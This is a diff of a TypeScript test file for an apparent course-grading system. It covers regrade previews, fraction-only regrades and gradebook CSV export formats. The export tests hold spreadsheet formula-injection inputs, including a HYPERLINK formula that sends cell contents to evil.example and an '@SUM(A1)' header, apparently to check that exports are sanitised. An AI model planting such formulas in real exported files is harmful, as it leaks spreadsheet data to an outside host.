@@ -1,3 +1,4 @@
+import { resultFixture } from '@rooflab/result/testing';
 import Papa from 'papaparse';
 import { expect, test } from 'vitest';
 import { openTestApi } from '../testing/open-test-api.ts';
@@ -63,7 +64,7 @@ test('A regrade shows what flips before anything changes, is put into effect at 
   const preview = await ines.regrade.preview({ regradeSetId });
   expect(preview).toMatchObject({ pending: 0, flips: [{ from: 'accepted', to: 'too-slow', count: 1 }] });
   expect(preview.items).toMatchObject([
-    { handInId: adas, name: 'Ada', flips: true, change: -52.5 },
+    { handInId: adas, name: 'Ada', flips: true, change: -52.5, points: { before: 92.5, after: 40 } },
     { name: 'Ben', flips: false, change: 0 },
   ]);
   const ada = await api.as(student.userId);
@@ -105,10 +106,37 @@ test('An override decides, with its reason in the audit log, until it is revoked
   ]);
 });
 
+test('A regrade in which only the fraction falls says so before it is in effect; afterwards the student reads the reason.', async () => {
+  await using api = await openTestApi();
+  const { courseId, assignmentId, student, otherStudent, instructor } = await makeSchool(api.db);
+  const timed = (fraction: number) => {
+    const { performance } = resultFixture();
+    return { verdict: 'too-slow' as const, score: 40, performance: { ...performance, fraction } };
+  };
+  const adas = await handInGraded(api, { enrolmentId: student.enrolmentId, assignmentId, result: timed(0.031) });
+  await handInGraded(api, { enrolmentId: otherStudent.enrolmentId, assignmentId, result: timed(0.02) });
+  const ines = await api.as(instructor.userId);
+  const reason = 'The clock was read too early.';
+  const { regradeSetId } = await ines.regrade.create({ courseId, filter: { assignmentId }, reason });
+  await ines.regrade.start({ regradeSetId });
+  await gradeNext(api, timed(0.0019));
+  await gradeNext(api, timed(0.02));
+  const preview = await ines.regrade.preview({ regradeSetId });
+  expect(preview.changed).toEqual({ verdict: 0, points: 0, fraction: 1, any: 1 });
+  expect(preview.items).toMatchObject([
+    { name: 'Ada', fractionMoves: true, flips: false, change: 0, before: { fraction: 0.031 }, after: { fraction: 0.0019 } },
+    { name: 'Ben', fractionMoves: false },
+  ]);
+  const ada = await api.as(student.userId);
+  expect((await ada.handIn.byId({ handInId: adas })).regradeReason).toBeNull();
+  await ines.regrade.putIntoEffect({ regradeSetId });
+  expect(await ada.handIn.byId({ handInId: adas })).toMatchObject({ regradeReason: reason, regradedAt: expect.any(Date) });
+});
+
 const EVIL = '=HYPERLINK("https://evil.example?"&A1,"Ada")';
 
 test.each([
-  ['plain', ['Name', 'Email', 'Section', 'Reduction (of 100)', '@SUM(A1) (of 100)', 'Total', 'Late days spent'], 0, 3],
+  ['plain', ['Name', 'Email', 'Section', 'Reduction (of 100)', '@SUM(A1) (of 100)', 'Total (of 200)', 'Late days spent'], 0, 3],
   ['canvas', ['Student', 'ID', 'SIS User ID', 'SIS Login ID', 'Section', 'Reduction', '@SUM(A1)'], 0, 5],
   [
     'moodle',
